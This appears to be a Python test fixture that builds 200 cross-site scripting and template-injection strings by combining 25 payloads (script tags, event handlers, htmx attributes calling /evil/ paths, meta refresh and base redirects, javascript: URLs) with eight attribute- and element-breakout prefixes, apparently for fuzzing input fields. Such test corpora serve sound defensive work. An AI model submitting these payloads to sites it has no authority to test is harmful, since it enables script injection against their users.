"""Two hundred strings that want to be more than text, for every place where somebody may type."""

# What is tried: a dialog, a request to /evil, a change of the page's own rules.
TRIES = [
    "<script>alert(1)</script>",
    "<script src=/evil/1></script>",
    "<img src=/evil/2 onerror=alert(2)>",
    "<svg onload=alert(3)><animate onbegin=alert(4) attributeName=x dur=1s>",
    "<body onload=alert(5)>",
    "<iframe src=/evil/3></iframe><iframe srcdoc='<script>alert(6)</script>'></iframe>",
    "<object data=/evil/4></object><embed src=/evil/5>",
    "<link rel=stylesheet href=/evil/6><style>@import '/evil/7'; body{background:url(/evil/8)}</style>",
    "<meta http-equiv=refresh content='0;url=/evil/9'>",
    "<base href=/evil/>",
    "<form action=/evil/10 id=x><button autofocus onfocus=alert(7)>x</button></form>",
    "<div hx-get=/evil/11 hx-trigger=load>x</div>",
    "<div data-hx-get=/evil/12 data-hx-trigger=load>x</div>",
    "<div hx-post=/evil/13 hx-trigger='every 100ms'>x</div>",
    "<div hx-on:htmx:load=alert(8) hx-on::load=alert(9)>x</div>",
    "<div hx-vals='js:{x:alert(10)}' hx-get=/evil/14 hx-trigger=revealed>x</div>",
    "<details open ontoggle=alert(11)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(12)><video><source onerror=alert(13)></video>",
    "<a href=javascript:alert(14) autofocus tabindex=1 onfocus=alert(15)>x</a>",
    "<template shadowrootmode=open><img src=/evil/15></template>",
    "<math><mtext><img src=/evil/16 onerror=alert(16)></mtext></math>",
    "javascript:alert(17)//' autofocus onfocus=alert(18) x='",
    "{{7*7}}{%raw%}${alert(19)}#{alert(20)}<%=alert(21)%>",
    "\u202e\u2066<img src=/evil/17>\u2069\ufeff\u0000".replace("\u0000", ""),
    "&lt;img src=/evil/18 onerror=alert(22)&gt;%3Cscript%3Ealert(23)%3C/script%3E\\u003cscript\\u003e",
]
# From where it breaks out: text, either kind of attribute, and the elements that hold raw text.
BREAKS = [
    "",
    '">',
    "'>",
    '" hx-get="/evil/20" hx-trigger="load" x="',
    "</textarea></option></select>",
    "</title></style></script>",
    "--></noscript></template>]]>",
    "`\\'\\\"</a></button></time></svg>",
]
CORPUS = [f"{way}{tried}" for tried in TRIES for way in BREAKS]
